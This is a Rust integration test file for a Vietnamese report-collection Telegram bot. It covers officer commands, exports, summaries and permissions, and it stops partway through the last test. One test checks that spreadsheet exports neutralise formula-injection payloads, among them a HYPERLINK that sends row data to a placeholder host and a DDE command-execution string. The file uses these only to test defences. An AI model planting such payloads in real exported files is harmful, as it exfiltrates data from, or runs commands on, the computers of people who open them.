//! Officer tools through the fake Telegram: board, missing list, reading, return and accept,
//! exports (opened and checked), the compiled summary, statistics with the chart, deadlines.

use baocao::domain::{Answer, Audience, Clock, Draft, PeriodId, ReportStatus, UnitCode, UnitId};
use baocao::i18n::{t, Lang, Msg};
use calamine::{Data, Reader};
use serde_json::Value;

use crate::report::{join, open_first_half};
use crate::support::bot::vn;
use crate::support::{FakeTelegram, Person, TestBot};

const ADMIN: i64 = 900;

async fn officer(tg: &FakeTelegram) -> Person {
    let mut admin = Person::new(tg, ADMIN, "Trưởng phòng", Some("vi"));
    admin.send("/start");
    admin.next_message().await;
    admin
}

pub async fn unit(bot: &TestBot, code: &str) -> UnitId {
    bot.store().unit_by_code(&UnitCode::parse(code).unwrap()).await.unwrap().unwrap().id
}

/// Submits a complete report for the member `tg` at the bot's current time.
pub async fn submit(
    bot: &TestBot,
    period: PeriodId,
    tg: i64,
    movements: i64,
    targets: (i64, i64),
    with_file: bool,
) {
    let member = bot.store().member_by_tg_user(tg).await.unwrap().unwrap();
    let unit = member.unit_id.unwrap();
    let mut draft = Draft {
        base_revision: bot.store().report(period, unit).await.unwrap().map_or(0, |r| r.revision),
        ..Draft::default()
    };
    let a = &mut draft.answers;
    a.insert("ket_qua".into(), Answer::Text { text: format!("Kết quả của {}", member.full_name) });
    a.insert("chi_tieu".into(), Answer::Fraction { num: targets.0, den: targets.1 });
    a.insert("phong_trao".into(), Answer::Number { value: movements });
    a.insert("dien_hinh".into(), Answer::Number { value: 2 });
    a.insert("khen_thuong".into(), Answer::Text { text: "Đề nghị tặng Giấy khen".into() });
    if with_file {
        let file = baocao::domain::FileRef {
            file_id: format!("doc-{tg}"),
            file_unique_id: format!("u-{tg}"),
            name: Some("bao-cao.pdf".into()),
            mime: Some("application/pdf".into()),
            size: Some(2048),
            photo: false,
        };
        a.insert("van_ban".into(), Answer::File { file });
    }
    bot.store().save_draft(period, unit, member.id, &draft, bot.clock.now()).await.unwrap();
    bot.store().submit_report(period, unit, member.id, bot.clock.now()).await.unwrap().unwrap();
}

/// Four chairs: Ta Ma on time (with a file), Pú Xi late, Nà Sáy blocked and missing, Quài Cang on time.
pub async fn period_in_every_state(tg: &FakeTelegram) -> (TestBot, PeriodId, Person) {
    let bot = TestBot::builder(tg).admins(&[ADMIN]).now(vn(10, 6, 9, 0)).start().await;
    let admin = officer(tg).await;
    let period = open_first_half(&bot, Audience::AllActive).await;
    for (id, code) in [(1001, "X-TAMA"), (1002, "X-PUXI"), (1003, "X-NASAY"), (1004, "X-QUAICANG")]
    {
        join(tg, &bot, id, &format!("Chủ tịch {code}"), code, "vi").await;
    }
    submit(&bot, period, 1001, 3, (12, 15), true).await;
    submit(&bot, period, 1004, 5, (8, 10), false).await;
    bot.clock.set(vn(18, 6, 9, 0));
    submit(&bot, period, 1002, 1, (5, 10), false).await;
    let nasay = bot.store().member_by_tg_user(1003).await.unwrap().unwrap();
    tg.block(1003);
    bot.store()
        .finish_delivery(
            &baocao::store::Delivery {
                id: 0,
                kind: baocao::domain::delivery::DeliveryKind::Reminder,
                dedup_key: String::new(),
                period_id: None,
                unit_id: None,
                member_id: Some(nasay.id),
                channel: "telegram".into(),
                address: "1003".into(),
                stage: None,
                decision: None,
                announcement: None,
                attempts: 1,
                created_at: bot.clock.now(),
            },
            &baocao::store::DeliveryOutcome::Blocked { error: "403".into() },
            bot.clock.now(),
        )
        .await
        .unwrap();
    (bot, period, admin)
}

pub fn documents(tg: &FakeTelegram, chat: i64) -> Vec<(String, Vec<u8>)> {
    tg.calls_of("sendDocument")
        .into_iter()
        .filter(|c| c.params["chat_id"] == chat)
        .map(|c| {
            let doc = &c.params["document"];
            let bytes = doc["bytes"]
                .as_array()
                .map(|b| b.iter().filter_map(Value::as_u64).map(|v| v as u8).collect())
                .unwrap_or_default();
            (doc["file_name"].as_str().unwrap_or_default().to_owned(), bytes)
        })
        .collect()
}

#[tokio::test]
async fn the_board_shows_every_state_and_refreshes_in_place() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    admin.send("/tonghop");
    let board = admin.next_message().await;
    let text = board.text();
    let counts = Msg::new("board-counts")
        .arg("on_time", 2_i64)
        .arg("on_time_pct", "11%")
        .arg("late", 1_i64)
        .arg("late_pct", "5%")
        .arg("returned_count", 0_i64)
        .arg("accepted_count", 0_i64)
        .arg("missing", 16_i64)
        .arg("missing_pct", "84%")
        .arg("total", 19_i64);
    assert!(text.contains(&counts.render(Lang::Vi)), "{text}");
    let on_time_section = text
        .split(&Msg::new("board-late").arg("count", 1_i64).render(Lang::Vi))
        .next()
        .unwrap()
        .to_owned();
    assert!(
        on_time_section.contains("Xã Ta Ma")
            && on_time_section.contains("Xã Quài Cang")
            && !on_time_section.contains("Xã Pú Xi")
    );
    assert!(
        text.contains(&format!("• Xã Nà Sáy ⚠️ {}", t(Lang::Vi, "board-unreachable"))),
        "{text}"
    );

    submit(&bot, period, 1003, 1, (1, 1), false).await;
    admin.press(&board, &t(Lang::Vi, "board-refresh"));
    tg.wait_for("the board edited in place", |tg| {
        tg.calls_of("editMessageText").into_iter().find(|c| c.params["message_id"] == board.id)
    })
    .await;
    assert!(
        admin.reread(&board).text().contains("Xã Nà Sáy — "),
        "refreshed: {}",
        admin.reread(&board).text()
    );
    assert_eq!(admin.unread(), 0, "no new message for a refresh");
}

#[tokio::test]
async fn a_province_sized_board_is_paginated_not_truncated() {
    let tg = FakeTelegram::start().await;
    let bot = TestBot::builder(&tg).admins(&[ADMIN]).without_units().start().await;
    let mut csv = "code,name,kind,cluster\n".to_owned();
    for i in 0..400 {
        csv.push_str(&format!("X-{i:04},Xã Thử Nghiệm Có Tên Dài Số {i},commune,\n"));
    }
    let units = baocao::domain::unit_import::parse_units_csv(csv.as_bytes()).unwrap();
    bot.store().import_units(&units, bot.clock.now()).await.unwrap();
    let mut admin = officer(&tg).await;
    open_first_half(&bot, Audience::AllActive).await;
    admin.send("/tonghop");
    let first = admin.next_message().await;
    assert!(first.text().encode_utf16().count() <= 4096);
    let pages: usize = first.text().rsplit('/').next().unwrap().trim().parse().unwrap();
    assert!(pages >= 3, "{pages} pages");
    let mut seen = first.text();
    for page in 2..=pages {
        admin.press(&first, "▶️");
        let marker = Msg::new("board-page").arg("page", page).arg("pages", pages).render(Lang::Vi);
        tg.wait_for("the next page", |_| {
            admin.reread(&first).text().contains(&marker).then_some(())
        })
        .await;
        seen.push_str(&admin.reread(&first).text());
    }
    for i in [0, 199, 399] {
        assert!(
            seen.contains(&format!("Xã Thử Nghiệm Có Tên Dài Số {i}\n"))
                || seen.contains(&format!("Xã Thử Nghiệm Có Tên Dài Số {i} ")),
            "unit {i} is on a page"
        );
    }
}

#[tokio::test]
async fn the_missing_list_names_reporters_and_nudges_them_all() {
    let tg = FakeTelegram::start().await;
    let (_bot, _period, mut admin) = period_in_every_state(&tg).await;
    admin.send("/chuanop");
    let list = admin.next_message().await;
    assert!(list.text().contains("• Xã Nà Sáy — Chủ tịch X-NASAY ⚠️"), "{}", list.text());
    assert!(list.text().contains(&format!("• Xã Mường Mùn — {}", t(Lang::Vi, "missing-nobody"))));
    assert!(!list.text().contains("Xã Ta Ma"));
    admin.press(&list, &t(Lang::Vi, "missing-nudge-all"));
    let done = admin.next_text().await; // nobody to remind: the count at once, nothing "under way"
    assert!(done.contains("0 tin") || done.contains("gửi được 0"), "{done}");
}

#[tokio::test]
async fn reading_a_report_shows_the_answers_and_resends_the_file() {
    let tg = FakeTelegram::start().await;
    let (_bot, _period, mut admin) = period_in_every_state(&tg).await;
    admin.send("/xem x-tama");
    let report = admin.next_message().await;
    assert!(
        report.text().contains("Chủ tịch X-TAMA")
            && report.text().contains("12/15")
            && report.text().contains(&t(Lang::Vi, "report-on-time"))
    );
    assert_eq!(
        report.buttons(),
        [t(Lang::Vi, "decision-button-return"), t(Lang::Vi, "decision-button-accept")]
    );
    tg.wait_for("the file", |tg| {
        tg.calls_of("sendDocument").into_iter().find(|c| c.params["document"] == "doc-1001")
    })
    .await;
    assert!(
        admin.next_message().await.json["document"]["file_id"] == "doc-1001",
        "the file follows the report"
    );
    admin.send("/xem X-KHONGCO");
    assert_eq!(
        admin.next_text().await,
        Msg::new("err-unit-unknown").arg("code", "X-KHONGCO").render(Lang::Vi)
    );
    admin.send("/xem X-MUONGMUN");
    assert!(admin.next_text().await.starts_with("Xã Mường Mùn"));
    admin.send("/tonghop 99");
    assert_eq!(
        admin.next_text().await,
        Msg::new("err-period-unknown").arg("id", "99").render(Lang::Vi)
    );
}

#[tokio::test]
async fn return_then_revise_after_the_deadline_then_accept() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    let mut chair = Person::new(&tg, 1001, "Chủ tịch X-TAMA", Some("vi"));
    admin.send("/xem X-TAMA");
    let report = admin.next_message().await;
    admin.next_message().await; // the attached file
    admin.press(&report, &t(Lang::Vi, "decision-button-return"));
    assert_eq!(admin.next_text().await, t(Lang::Vi, "decision-ask-reason"));
    admin.send("Thiếu số liệu về khen thưởng");
    let done = admin.next_text().await;
    assert_eq!(
        done,
        Msg::new("decision-done-returned")
            .arg("unit", "xã Ta Ma")
            .arg("revision", 1_i64)
            .arg("told", 1_i64)
            .render(Lang::Vi)
    );
    for _ in 0..chair.unread().saturating_sub(1) {
        chair.next_message().await;
    }
    let returned = chair.next_message().await;
    assert!(returned.text().contains("Thiếu số liệu về khen thưởng"), "{}", returned.text());

    // After the deadline, the chair may still revise a returned report.
    chair.press(&returned, &t(Lang::Vi, "decision-button-revise"));
    assert!(chair.next_text().await.starts_with("Báo cáo của đơn vị đã được"));
    let unanswered = chair.next_message().await;
    assert!(
        unanswered.text().starts_with("Câu 6/7"),
        "the one question never answered comes first"
    );
    chair.press(&unanswered, &t(Lang::Vi, "report-button-skip"));
    let review = chair.next_message().await;
    chair.press(&review, &t(Lang::Vi, "report-button-submit"));
    assert!(chair.next_text().await.contains(
        &Msg::new("report-revised")
            .arg("revision", 2_i64)
            .arg("title", "Báo cáo 6 tháng đầu năm 2021")
            .arg("unit", "xã Ta Ma")
            .arg("at", "18/06/2021 09:00")
            .render(Lang::Vi)
    ));
    let tama = unit(&bot, "X-TAMA").await;
    let revised = bot.store().report(period, tama).await.unwrap().unwrap();
    assert!(revised.on_time, "a revision keeps the first submission's timeliness");

    admin.send("/xem X-TAMA");
    let report = loop {
        let m = admin.next_message().await;
        if m.buttons().contains(&t(Lang::Vi, "decision-button-accept")) {
            break m;
        }
    };
    admin.press(&report, &t(Lang::Vi, "decision-button-accept"));
    let done = loop {
        let text = admin.next_text().await;
        if text.starts_with("Đã tiếp nhận") {
            break text;
        }
    };
    assert!(done.contains("bản số 2"));
    chair.send("/baocao");
    let mut last = String::new();
    let locked = crate::support::district(Msg::new("report-accepted-locked")).render(Lang::Vi);
    while !last.contains(&locked) {
        last = chair.next_text().await;
    }
    let events = bot.store().recent_events(None, 50).await.unwrap();
    assert!(
        events.iter().any(|e| e.kind == "report.returned")
            && events.iter().any(|e| e.kind == "report.accepted")
    );
}

#[tokio::test]
async fn two_officers_deciding_at_once_the_second_is_told_what_the_first_did() {
    let tg = FakeTelegram::start().await;
    let (bot, _period, mut admin) = period_in_every_state(&tg).await;
    let code = bot.invite(baocao::actions::invite::Whom::Officer).await;
    let mut second = Person::new(&tg, 2002, "Cán bộ thứ hai", Some("vi"));
    second.send(&format!("/start {}", code.as_str()));
    second.next_message().await;
    admin.send("/xem X-TAMA");
    second.send("/xem X-TAMA");
    let (a, b) = (admin.next_message().await, second.next_message().await);
    admin.next_message().await; // the attached files
    second.next_message().await;
    admin.press(&a, &t(Lang::Vi, "decision-button-return"));
    admin.next_message().await;
    second.press(&b, &t(Lang::Vi, "decision-button-accept"));
    assert!(second.next_text().await.starts_with("Đã tiếp nhận"));
    admin.send("Thiếu chữ ký");
    let told = admin.next_text().await;
    assert!(
        told.contains("Cán bộ thứ hai") && told.contains(&t(Lang::Vi, "report-status-accepted")),
        "{told}"
    );
}

#[tokio::test]
async fn exports_open_in_excel_with_real_types_and_the_csv_has_a_bom() {
    let tg = FakeTelegram::start().await;
    let (_bot, _period, mut admin) = period_in_every_state(&tg).await;
    admin.send("/xuat");
    admin.next_message().await;
    let (name, bytes) = documents(&tg, ADMIN).pop().unwrap();
    assert!(name.ends_with(".xlsx"));
    if let Ok(dir) = std::env::var("BAOCAO_SAMPLE_DIR") {
        std::fs::write(format!("{dir}/bao-cao.xlsx"), &bytes).unwrap(); // to look at it printed
    }
    let xlsx_bytes = bytes.clone();
    let mut book =
        calamine::open_workbook_from_rs::<calamine::Xlsx<_>, _>(std::io::Cursor::new(bytes))
            .unwrap();
    assert_eq!(book.sheet_names(), ["Tổng hợp", "Báo cáo", "Chưa gửi"]);
    let answers = book.worksheet_range("Báo cáo").unwrap();
    assert_eq!(answers.height(), 20, "a header and 19 units");
    assert_eq!(answers.get((0, 0)), Some(&Data::String("STT".into())));
    assert_eq!(answers.get((0, 2)), Some(&Data::String("Đơn vị".into())));
    assert_eq!(answers.get((1, 0)), Some(&Data::Float(1.0)), "rows are numbered");
    let tama =
        (1..20).find(|r| answers.get((*r, 2)) == Some(&Data::String("Xã Ta Ma".into()))).unwrap();
    assert!(
        matches!(answers.get((tama, 4)), Some(Data::DateTime(_))),
        "sent-at is a real date: {:?}",
        answers.get((tama, 4))
    );
    let movements_col = 8 + 2;
    assert_eq!(answers.get((tama, movements_col)), Some(&Data::Float(3.0)));
    let summary = book.worksheet_range("Tổng hợp").unwrap();
    let row = (0..summary.height()).find(|r| matches!(summary.get((*r, 0)), Some(Data::String(s)) if s.starts_with("Tổng: Số phong trào"))).unwrap();
    assert_eq!(summary.get((row, 1)), Some(&Data::Float(9.0)), "3 + 5 + 1");
    let missing = book.worksheet_range("Chưa gửi").unwrap();
    assert_eq!(missing.height(), 17);
    // Print-ready: A4 landscape, the header row on every page. The narrow sheet of units not
    // sent is fitted to the page's width; the answers are too wide for that (their text would
    // print at 4 pt): they run over pages at 85 %, the unit's columns repeated on each, and
    // each row is as tall as its wrapped text.
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx_bytes)).unwrap();
    let mut part = |name: &str| {
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut xml).unwrap();
        xml
    };
    let (answers_xml, missing_xml) =
        (part("xl/worksheets/sheet2.xml"), part("xl/worksheets/sheet3.xml"));
    for xml in [&answers_xml, &missing_xml] {
        assert!(xml.contains(r#"paperSize="9""#) && xml.contains(r#"orientation="landscape""#));
    }
    assert!(missing_xml.contains(r#"fitToPage="1""#) && missing_xml.contains(r#"fitToHeight="0""#));
    assert!(!answers_xml.contains("fitToPage"), "not squeezed onto one page");
    assert!(answers_xml.contains(r#"scale="85""#), "{answers_xml}");
    let heights: Vec<f64> = answers_xml
        .split(r#" ht=""#)
        .skip(1)
        .map(|h| h.split('"').next().unwrap().parse().unwrap())
        .collect();
    assert_eq!(heights.len(), 20, "every row has its height");
    assert!(heights[0] >= 60.0, "the header's wrapped questions: {}", heights[0]);
    let workbook = part("xl/workbook.xml");
    assert_eq!(workbook.matches("_xlnm.Print_Titles").count(), 2, "{workbook}");
    assert!(workbook.contains("'Báo cáo'!$A:$C,'Báo cáo'!$1:$1"), "{workbook}");

    admin.send("/xuat csv");
    admin.next_message().await;
    let (name, bytes) = documents(&tg, ADMIN).pop().unwrap();
    assert!(name.ends_with(".csv"));
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM for Excel");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(text.lines().count(), 20);
    assert!(text.lines().next().unwrap().starts_with("STT,Mã đơn vị,Đơn vị,Trạng thái"));
}

#[tokio::test]
async fn the_compiled_summary_adds_up_the_stored_answers() {
    let tg = FakeTelegram::start().await;
    let (_bot, _period, mut admin) = period_in_every_state(&tg).await;
    admin.send("/baocaotonghop");
    let text = admin.next_text().await;
    admin.next_message().await; // the same text as a document
    assert!(text.contains("Tuần Giáo, ngày 18 tháng 6 năm 2021"), "{text}");
    assert!(
        text.contains("3/19 đơn vị đã gửi (2 đúng hạn, 1 quá hạn); 16 đơn vị chưa gửi"),
        "{text}"
    );
    assert!(text.contains("Số phong trào thi đua đã phát động hoặc hưởng ứng: 9"));
    assert!(text.contains(": 25/35 (71,4%)"), "12/15 + 8/10 + 5/10, in Vietnamese style");
    assert!(text.contains("- Xã Ta Ma: Kết quả của Chủ tịch X-TAMA"));
    assert!(text.contains(
        &Msg::new("summary-late").arg("count", 1_i64).arg("units", "xã Pú Xi").render(Lang::Vi)
    ));
    let (name, _) = documents(&tg, ADMIN).pop().unwrap();
    assert!(name.ends_with(".docx"), "{name}");
}

/// The text of an entry of a `.docx` (a zip of XML parts).
pub fn docx_part(bytes: &[u8], part: &str) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    std::io::Read::read_to_string(&mut zip.by_name(part).unwrap(), &mut xml).unwrap();
    xml
}

#[tokio::test]
async fn the_compiled_report_is_a_decree_30_document_naming_the_office() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    let puxi = unit(&bot, "X-PUXI").await;
    let report = bot.store().report(period, puxi).await.unwrap().unwrap();
    let officer = bot.store().member_by_tg_user(ADMIN).await.unwrap().unwrap();
    let what = (baocao::domain::Decision::Return, Some("Thiếu số liệu"));
    bot.store()
        .decide(report.id, report.revision, what, officer.id, bot.clock.now(), &[])
        .await
        .unwrap();
    admin.send("/baocaotonghop");
    admin.next_text().await;
    let sent = admin.next_message().await;
    assert_eq!(sent.json["caption"], t(Lang::Vi, "docx-caption"));
    let (name, bytes) = documents(&tg, ADMIN).pop().unwrap();
    assert_eq!(name, "bao-cao-tong-hop-1-20210616.docx");
    if let Ok(path) = std::env::var("BAOCAO_SAMPLE_DOCX") {
        std::fs::write(path, &bytes).unwrap(); // for the README's picture
    }
    let xml = docx_part(&bytes, "word/document.xml");
    // A4 and Decree 30's margins (top/bottom 20 mm, left 30 mm, right 15 mm), in twips.
    assert!(xml.contains(r#"<w:pgSz w:w="11906" w:h="16838""#), "A4");
    assert!(
        xml.contains(r#"w:top="1140""#)
            && xml.contains(r#"w:left="1710""#)
            && xml.contains(r#"w:right="855""#)
    );
    let text: String = xml
        .split("<w:t")
        .skip(1)
        .filter_map(|p| p.split_once('>'))
        .map(|(_, rest)| rest.split("</w:t>").next().unwrap_or(""))
        .collect::<Vec<_>>()
        .join("|");
    for expected in [
        "UBND HUYỆN TUẦN GIÁO|PHÒNG NỘI VỤ",
        "Số:      /BC-PNV",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM|Độc lập - Tự do - Hạnh phúc",
        "Tuần Giáo, ngày 18 tháng 6 năm 2021",
        "BÁO CÁO|Kết quả tổng hợp báo cáo phong trào thi đua 6 tháng đầu năm 2021",
        ": 20/25 (80,0%)",
        "Nơi nhận:|- UBND huyện Tuần Giáo (để báo cáo);|- Lưu: VT, TĐKT.",
        "TRƯỞNG PHÒNG",
        "PHỤ LỤC",
    ] {
        assert!(text.contains(expected), "{expected} in {text}");
    }
    let returned = Msg::new("summary-returned").arg("count", 1_i64).arg("units", "xã Pú Xi");
    assert!(text.contains(&returned.render(Lang::Vi)));
    // The date line is in italics; the issuing office in bold.
    let date_run = xml.split("<w:r>").find(|r| r.contains("Tuần Giáo, ngày")).unwrap();
    assert!(date_run.contains("<w:i />") || date_run.contains("<w:i/>"), "{date_run}");
    let office_run = xml.split("<w:r>").find(|r| r.contains(">PHÒNG NỘI VỤ<")).unwrap();
    assert!(office_run.contains("<w:b />") || office_run.contains("<w:b/>"), "{office_run}");
    // Times New Roman throughout; the appendix has a row per unit and a header.
    assert!(docx_part(&bytes, "word/styles.xml").contains("Times New Roman"));
    let appendix = xml.split("PHỤ LỤC").nth(1).unwrap();
    assert_eq!(appendix.matches("<w:tr>").count(), 1 + 19, "a header and 19 units");
}

#[tokio::test]
async fn a_returned_report_is_left_out_of_the_totals_until_it_is_sent_again() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    let puxi =
        bot.store().unit_by_code(&UnitCode::parse("X-PUXI").unwrap()).await.unwrap().unwrap();
    let report = bot.store().report(period, puxi.id).await.unwrap().unwrap();
    let officer = bot.store().member_by_tg_user(ADMIN).await.unwrap().unwrap();
    let what = (baocao::domain::Decision::Return, Some("Thiếu số liệu"));
    bot.store()
        .decide(report.id, report.revision, what, officer.id, bot.clock.now(), &[])
        .await
        .unwrap();
    admin.send("/baocaotonghop");
    let text = admin.next_text().await;
    assert!(text.contains(": 20/25 (80,0%)"), "12/15 + 8/10 without Pú Xi's 5/10: {text}");
    let returned = Msg::new("summary-returned").arg("count", 1_i64).arg("units", "xã Pú Xi");
    assert!(text.contains(&returned.render(Lang::Vi)), "{text}");
}

#[tokio::test]
async fn statistics_rank_units_and_come_with_a_chart() {
    let tg = FakeTelegram::start().await;
    let (bot, _period, mut admin) = period_in_every_state(&tg).await;
    bot.clock.set(vn(30, 12, 9, 0));
    admin.send("/thongke 2021");
    let text = admin.next_text().await;
    let first = text.lines().nth(1).unwrap();
    assert!(
        first.starts_with("1. Xã Quài Cang: 100%") || first.starts_with("1. Xã Ta Ma: 100%"),
        "{text}"
    );
    assert!(
        text.contains("Xã Pú Xi: 0% đúng hạn — phải gửi 1, đúng hạn 0, quá hạn 1, không gửi 0"),
        "{text}"
    );
    let photo = tg.wait_for("the chart", |tg| tg.calls_of("sendPhoto").pop()).await;
    let bytes: Vec<u8> = photo.params["photo"]["bytes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_u64().unwrap() as u8)
        .collect();
    let image = image::load_from_memory(&bytes).unwrap();
    assert_eq!(
        (image.width(), image.height()),
        (baocao::documents::chart::WIDTH, baocao::documents::chart::height(19))
    );
    admin.next_message().await; // the chart
    admin.send("/thongke 2019");
    assert!(admin
        .next_text()
        .await
        .contains(&Msg::new("stats-none").arg("year", "2019").render(Lang::Vi)));
}

#[tokio::test]
async fn every_officer_command_is_refused_to_a_reporter() {
    let tg = FakeTelegram::start().await;
    let (_bot, _period, _admin) = period_in_every_state(&tg).await;
    let mut chair = Person::new(&tg, 1002, "Chủ tịch X-PUXI", Some("vi"));
    for command in [
        "/tonghop",
        "/chuanop",
        "/xem X-TAMA",
        "/xuat",
        "/baocaotonghop",
        "/thongke",
        "/kybaocao",
        "/nhac",
        "/moi X-TAMA",
    ] {
        chair.send(command);
        let mut text = chair.next_text().await;
        while text != crate::support::officers_only(Lang::Vi) && chair.unread() > 0 {
            text = chair.next_text().await;
        }
        assert_eq!(text, crate::support::officers_only(Lang::Vi), "{command}");
    }
}

#[tokio::test]
async fn extending_the_deadline_tells_the_units_that_have_not_reported() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    let mut missing_chair = join(&tg, &bot, 1005, "Chủ tịch Mường Mùn", "X-MUONGMUN", "vi").await;
    admin.send("/kybaocao");
    admin.next_message().await;
    let menu = admin.next_message().await;
    admin.press(
        &menu,
        &Msg::new("wizard-button-extend").arg("id", period.0.to_string()).render(Lang::Vi),
    );
    assert_eq!(admin.next_text().await, t(Lang::Vi, "extend-ask"));
    admin.send("30/06/2021 17:00");
    let done = admin.next_text().await;
    assert!(done.contains("30/06/2021 17:00") && done.contains("tới 1 người"), "{done}");
    let notice = missing_chair.next_text().await;
    assert!(notice.contains("30/06/2021 17:00"), "{notice}");
    assert_eq!(bot.store().period(period).await.unwrap().unwrap().due_at, vn(30, 6, 17, 0));
    assert!(bot.store().recent_events(Some("period.extended"), 5).await.unwrap().len() == 1);
}

#[tokio::test]
async fn csv_formula_injection_is_written_as_text_and_xlsx_keeps_strings_as_strings() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    // A chair (Nà Sáy) answers with a formula that would send the row away when the file is opened.
    let formula = r#"=HYPERLINK("http://example.invalid/?"&B2,"Chi tiết")"#;
    let member = bot.store().member_by_tg_user(1003).await.unwrap().unwrap();
    let unit = member.unit_id.unwrap();
    let mut draft = Draft::default();
    let a = &mut draft.answers;
    a.insert("ket_qua".into(), Answer::Text { text: formula.into() });
    a.insert("chi_tieu".into(), Answer::Fraction { num: 1, den: 2 });
    a.insert("phong_trao".into(), Answer::Number { value: 1 });
    a.insert("dien_hinh".into(), Answer::Number { value: 0 });
    a.insert("khen_thuong".into(), Answer::Text { text: "@SUM(1+1)*cmd|' /C calc'!A0".into() });
    let now = bot.clock.now();
    bot.store().save_draft(period, unit, member.id, &draft, now).await.unwrap();
    bot.store().submit_report(period, unit, member.id, now).await.unwrap().unwrap();

    admin.send("/xuat csv");
    admin.next_message().await;
    let (_, bytes) = documents(&tg, ADMIN).pop().unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let nasay = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r.get(2) == Some("Xã Nà Sáy"))
        .expect("Nà Sáy's row");
    assert!(nasay.iter().any(|c| c == format!("'{formula}")), "{nasay:?}");
    assert!(nasay.iter().any(|c| c.starts_with("'@SUM")), "{nasay:?}");
    assert!(
        nasay.iter().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "no cell starts like a formula: {nasay:?}"
    );

    admin.send("/xuat");
    admin.next_message().await;
    let (_, bytes) = documents(&tg, ADMIN).pop().unwrap();
    let mut book =
        calamine::open_workbook_from_rs::<calamine::Xlsx<_>, _>(std::io::Cursor::new(bytes))
            .unwrap();
    let answers = book.worksheet_range("Báo cáo").unwrap();
    let formulas = book.worksheet_formula("Báo cáo").unwrap();
    assert!(
        answers.used_cells().any(|(_, _, v)| *v == Data::String(formula.into())),
        "the XLSX holds the answer as the string it is"
    );
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "and no formula");
}

#[tokio::test]
async fn a_decision_is_stored_only_together_with_the_message_that_tells_the_unit() {
    let tg = FakeTelegram::start().await;
    let (bot, period, mut admin) = period_in_every_state(&tg).await;
    let tama = unit(&bot, "X-TAMA").await;
    let chair_before = tg.sent_ids(1001).len();
    // The outbox's table cannot be written (a full disk, a lock) while the officer accepts.
    let broken = crate::support::bot::break_outbox(&bot).await;
    admin.send("/xem X-TAMA");
    let report = admin.next_message().await;
    admin.press(&report, &t(Lang::Vi, "decision-button-accept"));
    let failed = loop {
        let text = admin.next_text().await;
        if !text.is_empty() && !text.starts_with("Đã tiếp nhận") && text != report.text() {
            break text;
        }
    };
    assert_eq!(failed, t(Lang::Vi, "err-internal"));
    let stored = bot.store().report(period, tama).await.unwrap().unwrap();
    assert_eq!(stored.status, ReportStatus::Submitted, "no decision the unit would never hear of");

    // Once the outbox can be written again, the same button works and the chair is told.
    crate::support::bot::mend_outbox(broken).await;
    admin.press(&report, &t(Lang::Vi, "decision-button-accept"));
    loop {
        if admin.next_text().await.starts_with("Đã tiếp nhận") {
            break;
        }
    }
    let stored = bot.store().report(period, tama).await.unwrap().unwrap();
    assert_eq!(stored.status, ReportStatus::Accepted);
    tg.wait_for("the chair to hear of it", |tg| {
        tg.sent_ids(1001)[chair_before..].iter().copied().find(|id| {
            tg.message(1001, *id)["text"].as_str().unwrap_or_default().contains("tiếp nhận")
        })
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_officer_is_answered_at_once_during_a_large_send_and_the_news_follows() {
    let tg = FakeTelegram::start().await;
    let (bot, _period, mut admin) = period_in_every_state(&tg).await;
    let chair_before = tg.sent_ids(1001).len();
    // A sweep of 1,200 digests to other chats: forty seconds at Telegram's 30 messages a second.
    let now = bot.clock.now();
    let backlog: Vec<_> = (0..1_200)
        .map(|i| baocao::store::NewDelivery {
            kind: baocao::domain::delivery::DeliveryKind::Digest,
            dedup_key: format!("digest:test:{i}"),
            period_id: None,
            unit_id: None,
            member_id: None,
            channel: "telegram".into(),
            address: (-100_000 - i).to_string(),
            stage: None,
            decision: None,
            announcement: None,
        })
        .collect();
    bot.store().add_deliveries(&backlog, now).await.unwrap();
    let outbox = bot.running.as_ref().unwrap().scheduler().outbox().clone();
    let sweep = tokio::spawn(async move { outbox.flush().await });

    admin.send("/xem X-TAMA");
    let report = admin.next_message().await;
    admin.press(&report, &t(Lang::Vi, "decision-button-accept"));
    loop {
        if admin.next_text().await.starts_with("Đã tiếp nhận") {
            break;
        }
    }
    let left = bot.store().outbox_backlog().await.unwrap();
    assert!(left > 1_000, "the officer was answered before the backlog drained ({left} left)");
    // The news does not wait for the sweep either: it goes with the next few messages.
    tg.wait_for("the chair to hear of it", |tg| {
        tg.sent_ids(1001)[chair_before..].iter().copied().find(|id| {
            tg.message(1001, *id)["text"].as_str().unwrap_or_default().contains("tiếp nhận")
        })
    })
    .await;
    let left = bot.store().outbox_backlog().await.unwrap();
    assert!(left > 900, "the chair heard of it long before the sweep ended ({left} left)");
    sweep.abort();
}

#[tokio::test]
async fn a_reporter_reads_only_their_own_units_report_whatever_the_button_says() {
    let tg = FakeTelegram::start().await;
    let (bot, period, _admin) = period_in_every_state(&tg).await;
    let puxi = bot.store().report(period, unit(&bot, "X-PUXI").await).await.unwrap().unwrap();
    let tama = bot.store().report(period, unit(&bot, "X-TAMA").await).await.unwrap().unwrap();
    let mut chair = Person::new(&tg, 1001, "Chủ tịch X-TAMA", Some("vi"));
    chair.send("/help");
    let help = chair.next_message().await;
    // A forged "read" button for Pú Xi's report: refused (saying why), nothing shown.
    let query = chair.press_data(&help.json, &format!("v:{}", puxi.id.0));
